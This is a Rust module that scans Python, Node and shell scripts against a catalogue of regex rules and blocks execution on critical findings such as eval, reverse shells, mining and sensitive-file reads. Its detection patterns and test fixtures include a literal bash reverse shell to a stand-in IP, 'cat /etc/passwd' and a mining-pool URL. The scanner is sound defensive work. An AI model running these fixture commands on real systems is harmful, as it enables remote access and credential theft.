//! Script content scanning.
//!
//! Line-by-line regex scan against a fixed rule catalogue. Python/Node
//! scripts use [`scan_script`]; shell scripts use [`scan_shell_script`],
//! which drops the `$VAR` env-injection rule (that is how shell works)
//! and adds shell-specific probes. Any `Critical` finding blocks
//! execution; `Warn` findings are logged and surfaced but do not block.

use std::sync::LazyLock;

use regex::Regex;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Severity {
    Critical,
    Warn,
}

impl Severity {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Critical => "critical",
            Self::Warn => "warn",
        }
    }
}

/// One finding from a content scan.
#[derive(Debug, Clone)]
pub struct ScanResult {
    pub rule: &'static str,
    pub severity: Severity,
    /// 1-based line number.
    pub line: usize,
    /// The offending line, as written.
    pub content: String,
    pub message: &'static str,
}

struct ScanRule {
    name: &'static str,
    severity: Severity,
    regex: &'static LazyLock<Option<Regex>>,
    message: &'static str,
}

macro_rules! rule_pattern {
    ($name:ident, $pattern:expr) => {
        static $name: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new($pattern).ok());
    };
}

// ── Shared critical probes ─────────────────────────────────────────────────
rule_pattern!(RE_PYTHON_EXEC, r"(?i)\b(exec|eval)\s*\(");
rule_pattern!(
    RE_PYTHON_SUBPROCESS_SHELL,
    r"subprocess\.(call|run|Popen)\s*\([^)]*shell\s*=\s*True"
);
rule_pattern!(RE_NODE_EVAL, r"\b(eval|new\s+Function)\s*\(");
rule_pattern!(
    RE_NODE_CHILD_PROCESS,
    r#"require\s*\(\s*['"]child_process['"]\s*\)"#
);
rule_pattern!(
    RE_CRYPTO_MINING,
    r"(?i)(stratum\+tcp|coinhive|xmrig|cryptonight|monero.*pool|mining.*pool)"
);
rule_pattern!(
    RE_REVERSE_SHELL,
    r"(?i)(\/dev\/tcp\/|nc\s+-[a-z]*e|bash\s+-i\s+>&|python.*socket.*connect)"
);
rule_pattern!(RE_SHELL_ENV_INJECTION, r"\$[A-Z_][A-Z0-9_]{2,}");

// ── Shared warn probes ─────────────────────────────────────────────────────
rule_pattern!(
    RE_EXFILTRATION,
    r"(?i)(curl|wget|fetch)[^\n]*\s(-d|--data|--data-binary|--upload-file|-T)\b"
);
rule_pattern!(RE_OBFUSCATION_HEX, r"(\\x[0-9a-fA-F]{2}){8,}");
rule_pattern!(RE_OBFUSCATION_B64, r"(?i)\b(b64decode|atob|frombase64string)\s*\(");
rule_pattern!(
    RE_SUSPICIOUS_NETWORK,
    r"https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}"
);
rule_pattern!(
    RE_ENV_MANIPULATION,
    r"(?i)(os\.environ\s*\[|process\.env\.[A-Z0-9_]+\s*=|\bputenv\s*\(|\bsetenv\s*\()"
);

// ── Shell-specific probes ──────────────────────────────────────────────────
rule_pattern!(
    RE_SHELL_SENSITIVE_READ,
    r"(?i)\b(cat|less|head|tail|cp|dd)\b[^\n]*(/etc/passwd|/etc/shadow|\.ssh/|\.aws/credentials|\.env\b)"
);
rule_pattern!(
    RE_SHELL_FILE_ORACLE,
    r"\[\s*-[ef]\s+[^]]*(/etc/|\.ssh|\.aws|\.env)"
);
rule_pattern!(
    RE_SHELL_OUTPUT_REDIRECT,
    r"(?i)\b(curl|wget)\b[^\n]*\s(-o|--output|-O)\b"
);

/// Rules applied to Python/Node scripts.
static SCRIPT_RULES: LazyLock<Vec<ScanRule>> = LazyLock::new(|| {
    let mut rules = shared_critical_rules();
    rules.push(ScanRule {
        name: "shell-env-injection",
        severity: Severity::Critical,
        regex: &RE_SHELL_ENV_INJECTION,
        message: "environment variable expansion inside a non-shell script",
    });
    rules.extend(shared_warn_rules());
    rules
});

/// Rules applied to shell scripts: env expansion is legitimate there, but
/// shell-specific probes join the catalogue.
static SHELL_RULES: LazyLock<Vec<ScanRule>> = LazyLock::new(|| {
    let mut rules = shared_critical_rules();
    rules.push(ScanRule {
        name: "shell-sensitive-file-read",
        severity: Severity::Critical,
        regex: &RE_SHELL_SENSITIVE_READ,
        message: "reads a sensitive file",
    });
    rules.push(ScanRule {
        name: "shell-file-existence-oracle",
        severity: Severity::Critical,
        regex: &RE_SHELL_FILE_ORACLE,
        message: "probes for sensitive files",
    });
    rules.push(ScanRule {
        name: "shell-output-redirect",
        severity: Severity::Warn,
        regex: &RE_SHELL_OUTPUT_REDIRECT,
        message: "downloads to an attacker-chosen path",
    });
    rules.extend(shared_warn_rules());
    rules
});

fn shared_critical_rules() -> Vec<ScanRule> {
    vec![
        ScanRule {
            name: "python-exec",
            severity: Severity::Critical,
            regex: &RE_PYTHON_EXEC,
            message: "dynamic code execution via exec/eval",
        },
        ScanRule {
            name: "python-subprocess-shell",
            severity: Severity::Critical,
            regex: &RE_PYTHON_SUBPROCESS_SHELL,
            message: "subprocess with shell=True",
        },
        ScanRule {
            name: "node-eval",
            severity: Severity::Critical,
            regex: &RE_NODE_EVAL,
            message: "dynamic code execution via eval/new Function",
        },
        ScanRule {
            name: "node-child-process",
            severity: Severity::Critical,
            regex: &RE_NODE_CHILD_PROCESS,
            message: "spawns child processes",
        },
        ScanRule {
            name: "crypto-mining",
            severity: Severity::Critical,
            regex: &RE_CRYPTO_MINING,
            message: "cryptocurrency mining indicators",
        },
        ScanRule {
            name: "reverse-shell",
            severity: Severity::Critical,
            regex: &RE_REVERSE_SHELL,
            message: "reverse shell indicators",
        },
    ]
}

fn shared_warn_rules() -> Vec<ScanRule> {
    vec![
        ScanRule {
            name: "exfiltration",
            severity: Severity::Warn,
            regex: &RE_EXFILTRATION,
            message: "uploads data to a remote host",
        },
        ScanRule {
            name: "obfuscation-hex",
            severity: Severity::Warn,
            regex: &RE_OBFUSCATION_HEX,
            message: "long hex escape sequence",
        },
        ScanRule {
            name: "obfuscation-base64-exec",
            severity: Severity::Warn,
            regex: &RE_OBFUSCATION_B64,
            message: "base64 decoding, possible payload obfuscation",
        },
        ScanRule {
            name: "suspicious-network",
            severity: Severity::Warn,
            regex: &RE_SUSPICIOUS_NETWORK,
            message: "network access to a raw IP address",
        },
        ScanRule {
            name: "env-manipulation",
            severity: Severity::Warn,
            regex: &RE_ENV_MANIPULATION,
            message: "mutates the process environment",
        },
    ]
}

fn scan(content: &str, rules: &[ScanRule]) -> Vec<ScanResult> {
    let mut findings = Vec::new();
    for (index, line) in content.lines().enumerate() {
        for rule in rules {
            let Some(regex) = rule.regex.as_ref() else {
                continue;
            };
            if regex.is_match(line) {
                findings.push(ScanResult {
                    rule: rule.name,
                    severity: rule.severity,
                    line: index + 1,
                    content: line.to_string(),
                    message: rule.message,
                });
            }
        }
    }
    findings
}

/// Scan a Python/Node script.
pub fn scan_script(content: &str) -> Vec<ScanResult> {
    scan(content, &SCRIPT_RULES)
}

/// Scan a shell script.
pub fn scan_shell_script(content: &str) -> Vec<ScanResult> {
    scan(content, &SHELL_RULES)
}

/// Whether any finding blocks execution.
pub fn has_critical(findings: &[ScanResult]) -> bool {
    findings.iter().any(|f| f.severity == Severity::Critical)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn critical_rules(findings: &[ScanResult]) -> Vec<&'static str> {
        findings
            .iter()
            .filter(|f| f.severity == Severity::Critical)
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn python_eval_flagged_with_line_number() {
        let findings = scan_script("x = 1\neval(\"2+2\")\n");
        assert!(critical_rules(&findings).contains(&"python-exec"));
        let finding = findings.iter().find(|f| f.rule == "python-exec").unwrap();
        assert_eq!(finding.line, 2);
    }

    #[test]
    fn each_critical_rule_fires_on_positive_example() {
        let cases: &[(&str, &str)] = &[
            ("python-exec", "exec(payload)"),
            (
                "python-subprocess-shell",
                "subprocess.run(cmd, shell=True)",
            ),
            ("node-eval", "new Function(body)()"),
            ("node-child-process", "const cp = require('child_process')"),
            ("crypto-mining", "pool = 'stratum+tcp://pool.example:3333'"),
            ("reverse-shell", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
            ("shell-env-injection", "send($AWS_SECRET_KEY)"),
        ];
        for (rule, positive) in cases {
            let findings = scan_script(positive);
            assert!(
                critical_rules(&findings).contains(rule),
                "{rule} should fire on {positive:?}"
            );
        }
    }

    #[test]
    fn benign_lines_produce_no_findings() {
        let benign = "\
import json
result = compute(values)
print(json.dumps(result))
";
        assert!(scan_script(benign).is_empty());
    }

    #[test]
    fn benign_near_misses_stay_clean() {
        // Same structure as the dangerous forms, harmless content.
        let cases = [
            "evaluate(model)",                  // not eval(
            "subprocess.run(cmd)",              // no shell=True
            "const cp = require('crypto')",     // not child_process
            "x = $lowercase",                   // prefix requires uppercase
            "stratum = compute_layer(depth)",   // not stratum+tcp
            "open('/dev/tcp-dump.log')",        // not /dev/tcp/
        ];
        for line in cases {
            assert!(
                !has_critical(&scan_script(line)),
                "{line:?} should not block"
            );
        }
    }

    #[test]
    fn shell_ruleset_permits_env_expansion() {
        let findings = scan_shell_script("echo $HOME_DIR");
        assert!(!has_critical(&findings));
    }

    #[test]
    fn shell_sensitive_read_blocks() {
        let findings = scan_shell_script("cat /etc/passwd");
        assert!(critical_rules(&findings).contains(&"shell-sensitive-file-read"));
    }

    #[test]
    fn shell_file_oracle_blocks() {
        let findings = scan_shell_script("if [ -f /etc/shadow ]; then echo 1; fi");
        assert!(critical_rules(&findings).contains(&"shell-file-existence-oracle"));
    }

    #[test]
    fn shell_download_flag_warns_without_blocking() {
        let findings = scan_shell_script("curl https://example.com -o /tmp/out");
        assert!(!has_critical(&findings));
        assert!(findings.iter().any(|f| f.rule == "shell-output-redirect"));
    }

    #[test]
    fn warn_rules_do_not_block() {
        let findings = scan_script("import base64; data = b64decode(blob)");
        assert!(findings.iter().any(|f| f.rule == "obfuscation-base64-exec"));
        assert!(!has_critical(&findings));
    }
}
